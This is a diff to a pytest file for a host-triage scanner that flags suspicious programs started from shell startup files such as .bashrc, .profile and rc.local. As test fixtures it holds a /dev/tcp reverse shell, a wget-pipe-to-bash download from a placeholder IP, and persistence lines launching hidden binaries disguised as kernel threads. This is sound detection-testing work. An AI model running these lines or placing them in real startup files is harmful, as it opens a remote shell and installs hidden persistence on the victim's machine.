@@ -671,6 +671,9 @@ CASES = {
     "TRI-CONF-052": ({"/etc/rc.local": "#!/bin/sh -e\nnohup /var/tmp/.font-unix/kthreadd >/dev/null 2>&1 &\nexit 0\n"},
                      {"/etc/rc.local": "#!/bin/sh -e\nrm -f /var/tmp/app.lock\n/opt/app/.venv/bin/python -m warm &\n"
                       "exit 0\n"}),
+    "TRI-CONF-053": ({"/home/ubuntu/.profile": "~/.config/.sys/update >/dev/null 2>&1 &\n"},
+                     {"/home/ubuntu/.profile": 'eval "$(~/.fnm/fnm env)"\n[ -x ~/.local/bin/mise ] && '
+                      '~/.local/bin/mise activate bash\n'}),
 }
 
 
@@ -724,6 +727,24 @@ def test_history_settings_that_keep_history(tmp_path, line):
     root = _base(tmp_path / "root")
     _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC + line + "\n")
     assert "TRI-CONF-040" not in _findings(_collect(root)[0]), line
+
+
+@pytest.mark.parametrize("line, expected", [
+    ("nohup /dev/shm/.k/kswapd0 >/dev/null 2>&1 &", {"TRI-CONF-052": "high", "TRI-CONF-053": "medium"}),
+    ("(sleep 30; /tmp/upd) &", {"TRI-CONF-052": "high"}),
+    ("setsid ~/.cache/.dbus/dbus-daemon --fork", {"TRI-CONF-053": "medium"}),
+    ("bash -c 'sh -i >& /dev/tcp/198.51.100.4/8443 0>&1' &", {"TRI-CONF-050": "critical"}),
+    ("wget -qO- http://198.51.100.4/x | bash", {"TRI-CONF-051": "high"}),
+    ("cleanup() { rm -f /tmp/.session-$$; /tmp/helper; }", {}),  # a function, run when called
+    ('eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"', {}),
+    ("[ -f ~/.fzf.bash ] && source ~/.fzf.bash", {}),
+    ("/usr/bin/keychain --quiet ~/.ssh/id_ed25519", {}),
+])
+def test_programs_started_from_start_up_files(tmp_path, line, expected):
+    root = _base(tmp_path / "root")
+    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC + line + "\n")
+    found = _findings(_collect(root)[0])
+    assert {rule: hits[0]["severity"] for rule, hits in found.items()} == expected, line
 
 
 def test_hostile_config_files_are_bounded_and_stay_in_the_root(tmp_path):
